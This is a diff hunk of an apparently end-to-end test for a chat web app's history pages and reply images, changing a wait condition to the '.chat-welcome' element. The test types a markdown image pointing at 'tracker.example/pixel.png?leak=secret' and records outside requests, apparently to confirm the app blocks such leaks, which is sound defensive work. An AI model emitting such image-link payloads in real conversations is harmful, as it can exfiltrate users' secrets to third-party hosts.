@@ -77,7 +77,7 @@ describe.skipIf(Boolean(inject('skipReason')))('chat history pages and reply ima
         if (!r.url().startsWith(baseUrl) && !r.url().startsWith('data:')) elsewhere.push(r.url());
       });
       await page.goto(`/chat/general?token=${encodeURIComponent(token)}`);
-      await page.getByText('已创建新对话').first().waitFor();
+      await page.locator('.chat-welcome').waitFor();
 
       const input = page.getByLabel('输入您的问题');
       await input.fill('看看 ![访问统计](https://tracker.example/pixel.png?leak=secret)');
